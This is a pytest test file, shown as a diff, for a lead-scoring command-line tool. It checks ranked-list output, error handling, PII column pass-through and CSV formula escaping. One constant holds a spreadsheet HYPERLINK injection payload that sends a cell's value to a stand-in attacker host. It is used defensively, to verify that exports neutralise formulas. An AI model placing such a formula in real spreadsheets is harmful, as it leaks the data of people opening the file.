@@ -1,0 +1,185 @@
+"""The `leadml score` job: the list written safely, the store filled, flat exports read."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pandas as pd
+import pytest
+
+from leadml.bundle import save_bundle
+from leadml.config import Config, ScoreConfig, StoreConfig, load_config
+from leadml.errors import InputError
+from leadml.jobs.score import run_batch
+from leadml.model.pipeline import TrainedModel
+from leadml.ranked import RANKED_COLUMNS
+from leadml.store import batch_summary, lead_detail, open_store, ranked
+from tests.flat_export import synthetic_export, write_export
+
+PII = ("contact_name", "email", "phone")
+
+
+def _leadml(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [sys.executable, "-m", "leadml_serve.cli", *args],
+        cwd=cwd,
+        capture_output=True,
+        text=True,
+        timeout=600,
+        env={**os.environ, "COLUMNS": "200"},
+    )
+
+
+@pytest.mark.slow
+def test_leadml_score_end_to_end(
+    small_data_dir: Path, trained: TrainedModel, tmp_path: Path
+) -> None:
+    bundle = save_bundle(trained.bundle, tmp_path / "bundle")
+    out = tmp_path / "lists" / "ranked.csv"
+    store = f"sqlite:///{tmp_path / 'scores.db'}"
+    args = ["--data", str(small_data_dir), "--model", str(bundle), "--as-of", "latest"]
+    done = _leadml("score", *args, "--out", str(out), "--store", store, cwd=tmp_path)
+    assert done.returncode == 0, done.stdout + done.stderr
+    assert "Top 10 leads" in done.stdout and "Grades: A" in done.stdout
+    listed = pd.read_csv(out)
+    assert list(listed.columns) == [*RANKED_COLUMNS, *PII]
+    assert listed["rank"].tolist() == list(range(1, len(listed) + 1))
+    assert listed["reasons"].str.len().gt(0).all()
+    engine = open_store(store)
+    try:
+        rows, total = ranked(engine, limit=3)
+        assert total == len(listed)
+        assert [r["lead_id"] for r in rows] == listed["lead_id"].head(3).tolist()
+        detail = lead_detail(engine, str(listed["lead_id"].iloc[0]))
+        assert detail is not None and detail["trend"] == "new"
+    finally:
+        engine.dispose()
+    before = out.read_bytes()
+
+    # Bad input: a clear one-line error, exit 1, and the previous list left intact.
+    failed = _leadml("score", *args[:4], "--as-of", "someday", "--out", str(out), cwd=tmp_path)
+    assert failed.returncode == 1
+    assert "--as-of" in failed.stderr and "Traceback" not in failed.stderr
+    assert out.read_bytes() == before
+    assert sorted(p.name for p in out.parent.iterdir()) == ["ranked.csv"]
+
+    top = tmp_path / "top.parquet"
+    small = _leadml(
+        "score", *args, "--out", str(top), "--top", "5", "--no-store", "--grades", "batch",
+        "--columns", "email", cwd=tmp_path,
+    )  # fmt: skip
+    assert small.returncode == 0, small.stdout + small.stderr
+    listed_top = pd.read_parquet(top)
+    assert list(listed_top.columns) == [*RANKED_COLUMNS, "email"]
+    assert len(listed_top) == 5
+
+
+def test_score_help_has_an_example() -> None:
+    from typer.testing import CliRunner
+
+    from leadml.cli import app
+
+    result = CliRunner().invoke(app, ["score", "--help"])
+    assert result.exit_code == 0, result.output
+    assert "Example" in result.output and "--as-of" in result.output
+
+
+@pytest.mark.parametrize("as_of", ["2026-01-01", "latest"])
+def test_as_of_on_a_flat_export_is_refused_not_ignored(
+    tmp_path: Path, as_of: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A flat export is as of the day it was exported: an explicit --as-of cannot hold."""
+    from typer.testing import CliRunner
+
+    from leadml.cli import app
+    from leadml.config import load_config
+
+    export = tmp_path / "export.csv"
+    export.write_text("id,views\nA,3\nB,5\n", encoding="utf-8")
+    config = load_config(project_dir=tmp_path)
+    with pytest.raises(InputError, match="--as-of cannot be applied to a flat export") as info:
+        run_batch(export, config, model=str(tmp_path / "no-model"), as_of=as_of, store=False)
+    assert info.value.value == as_of and info.value.file == export
+    monkeypatch.chdir(tmp_path)
+    result = CliRunner().invoke(
+        app, ["score", "--data", str(export), "--as-of", as_of, "--no-store"]
+    )
+    assert result.exit_code == 1
+    assert "--as-of" in result.output + str(result.exception)
+
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
+
+
+@pytest.fixture(scope="module")
+def flat_project(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Config, Path]:
+    """A flat export (Email, Phone: role pii) with a formula as one open lead's company,
+    and a flat model trained on it."""
+    from leadml.data.mapping.read import read_flat
+    from leadml.model.pipeline import fit_and_evaluate_flat
+
+    folder = tmp_path_factory.mktemp("flat")
+    frame = synthetic_export(1500, seed=4)
+    frame.loc[frame.index[frame["Converted"] == "0"][0], "Company Name"] = EVIL
+    config = load_config(
+        write_export(folder, frame),
+        overrides={"train": {"bootstrap_rounds": 0, "shap_sample": 100, "num_threads": 1}},
+    )
+    assert config.dataset is not None
+    trained = fit_and_evaluate_flat(read_flat(folder / "export.csv", config.dataset), config)
+    return folder, config, save_bundle(trained.bundle, folder / "bundle")
+
+
+def _flat_run(
+    flat_project: tuple[Path, Config, Path], name: str, score: ScoreConfig | None = None
+) -> tuple[pd.DataFrame, str]:
+    folder, config, bundle = flat_project
+    url = f"sqlite:///{folder / name}.db"
+    update: dict[str, object] = {"store": StoreConfig(url=url)}
+    if score is not None:
+        update["score"] = score
+    out = folder / name / "ranked.csv"
+    run_batch(folder / "export.csv", config.model_copy(update=update), model=str(bundle), out=out)
+    return pd.read_csv(out, dtype=str, keep_default_na=False), url
+
+
+def test_flat_contact_details_leave_only_when_listed(
+    flat_project: tuple[Path, Config, Path],
+) -> None:
+    listed, url = _flat_run(flat_project, "default")
+    assert list(listed.columns) == [*RANKED_COLUMNS, "Company Name"]
+    engine = open_store(url)
+    try:
+        summary = batch_summary(engine)
+        assert summary is not None and summary["batch"]["pass_through"] == ["Company Name"]
+        rows, _ = ranked(engine, limit=None)
+        assert not {"Email", "Phone"} & set(rows[0])
+    finally:
+        engine.dispose()
+    opted, url = _flat_run(flat_project, "opted", ScoreConfig(pass_through=("Email",)))
+    assert list(opted.columns) == [*RANKED_COLUMNS, "Company Name", "Email"]
+    assert opted["Email"].str.endswith("@example.com").all()
+
+
+def test_flat_list_csv_escapes_formulas_and_filters_sources_as_written(
+    flat_project: tuple[Path, Config, Path],
+) -> None:
+    listed, url = _flat_run(flat_project, "escaped")
+    evil = listed[listed["Company Name"].str.contains("HYPERLINK")]
+    assert len(evil) == 1
+    assert evil["Company Name"].iloc[0] == evil["company"].iloc[0] == "'" + EVIL
+    engine = open_store(url)
+    try:
+        rows, _ = ranked(engine, q="HYPERLINK")
+        assert [r["company"] for r in rows] == [EVIL]  # the store keeps the real value
+        summary = batch_summary(engine)
+        assert summary is not None and "Google" in summary["sources"]
+        for name, n in summary["sources"].items():  # what the sales page passes back
+            found, total = ranked(engine, limit=None, source=name)
+            assert total == n == len(found) > 0
+            assert {r["lead_source"] for r in found} == {name}
+    finally:
+        engine.dispose()
